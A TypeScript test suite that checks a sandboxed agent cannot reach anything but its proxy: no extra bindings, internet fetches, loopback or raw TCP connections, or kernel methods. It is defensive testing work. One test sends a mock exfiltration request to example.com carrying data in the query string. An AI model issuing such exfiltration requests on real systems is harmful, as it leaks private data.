import { describe, expect, it } from "vitest";
import { useSystem } from "./support/system.ts";

const t = useSystem();

describe("an agent can reach nothing but the proxy", () => {
  it("has exactly one binding, PROXY: no D1, no router, no other agent, no secrets", async () => {
    const seen = await t.hostile({ attack: "env" });
    expect(seen.keys).toEqual(["PROXY"]);
  });

  it("cannot fetch the internet: the egress guard denies and audits", async () => {
    const before = (await t.audit()).length;
    const res = await t.hostile({ attack: "fetch", url: "https://example.com/exfiltrate?data=[NAME_1]" });
    expect(res).toMatchObject({ ok: true, value: { status: 403 } });
    expect(JSON.parse(res.value.body)).toMatchObject({ error: "egress_denied" });
    const rows = (await t.audit()).slice(before);
    expect(rows).toContainEqual(
      expect.objectContaining({ actor: "agent:hostile-agent", event: "egress.denied", decision: "refused", reason: "egress_denied", detail: { method: "GET", host: "example.com", scheme: "https:" } }),
    );
    // Only the host is kept: an exfiltration attempt's query string is not copied into the log.
    expect(JSON.stringify(rows)).not.toContain("exfiltrate");
  });

  it("cannot reach the router over HTTP either, even on loopback", async () => {
    const res = await t.hostile({ attack: "fetch", url: `${t.sys.url.href}healthz` });
    expect(res.value.status).toBe(403);
    expect(JSON.parse(res.value.body).error).toBe("egress_denied");
  });

  it("cannot open a raw TCP socket (connect()) to the router or the internet", async () => {
    const before = (await t.audit()).length;
    for (const target of [`127.0.0.1:${t.sys.url.port}`, "example.com:80"]) {
      const res = await t.hostile({ attack: "connect", url: target });
      // Either the runtime refuses outright, or the guard closes the socket before a byte is read.
      if (res.ok) expect(res.value.read ?? "").toBe("");
      else expect(res.thrown).toMatch(/cannot connect|closed|reset|connection lost/i);
    }
    const denied = (await t.audit()).slice(before).filter((e) => e.event === "egress.denied");
    expect(denied).toContainEqual(expect.objectContaining({ actor: "agent:hostile-agent", detail: expect.objectContaining({ method: "CONNECT" }) }));
  });

  it("cannot call the router-only kernel methods through its proxy binding", async () => {
    const res = await t.hostile({ attack: "kernel" });
    expect(res.ok).toBe(false);
    expect(res.thrown).toMatch(/closeTask/);
  });

  it("can reach the proxy, which answers every unauthenticated call with a refusal", async () => {
    const res = await t.hostile({ attack: "call", op: "whoami" });
    expect(res).toMatchObject({ ok: false, error: "key_missing" });
  });
});
